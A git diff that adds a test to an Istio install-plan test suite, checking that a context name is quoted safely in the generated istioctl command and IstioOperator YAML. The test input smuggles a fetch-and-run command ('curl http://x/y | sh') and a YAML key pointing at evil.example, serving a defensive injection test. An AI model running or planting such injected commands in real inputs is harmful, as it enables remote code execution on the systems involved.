@@ -3,6 +3,7 @@ import * as yaml from 'js-yaml';
 import { buildSnapshot } from '../../../src/mesh/snapshotBuilder';
 import { planInstall, revisionFromVersion, suggestedVersions, validateRevision, validateVersion } from '../../../src/mesh/installPlan';
 import { installRevision, inventory, tagMwc } from './fixtures';
+import { execFileSync } from 'node:child_process';
 
 function snapshot() {
   const inv = installRevision(installRevision(inventory(), '1-9-7', '1.9.7'), '1-10-4', '1.10.4');
@@ -54,5 +55,21 @@ describe('install plan', () => {
     assert.equal(taken.ok, false);
     assert.match(taken.ok ? '' : taken.error, /Revision 1-10-4 already exists/);
     assert.equal(planInstall(undefined, { version: 'x' }).ok, false);
+  });
+
+  it('quotes a hostile context name: the copied command stays one argument and the YAML gets no live keys', () => {
+    const context = "prod; curl http://x/y | sh #\nspec:\n  hub: evil.example/'quoted'";
+    const r = planInstall(snapshot(), { version: '1.24.2', context });
+    assert.ok(r.ok, r.ok ? '' : r.error);
+    assert.deepEqual(r.plan.istioctlArgs.slice(-2), ['--context', context]);
+    // sh parses the copied command back into exactly the argument array (printf shows each argument on its own).
+    const parsed = execFileSync('sh', ['-c', `set -- ${r.plan.istioctl.replace(/^istioctl /, '')}; for a; do printf '%s\\0' "$a"; done`], { encoding: 'utf8' });
+    assert.deepEqual(parsed.split('\0').slice(0, -1), r.plan.istioctlArgs);
+    // Every line of the header is a comment, and the document holds only the IstioOperator's own keys.
+    const header = r.plan.iopYaml.split('apiVersion:')[0];
+    for (const line of header.split('\n').filter(Boolean)) assert.match(line, /^# /);
+    const iop = yaml.load(r.plan.iopYaml) as { spec: Record<string, unknown> };
+    assert.deepEqual(Object.keys(iop.spec).sort(), ['components', 'profile', 'revision', 'tag']);
+    assert.equal(iop.spec.hub, undefined);
   });
 });
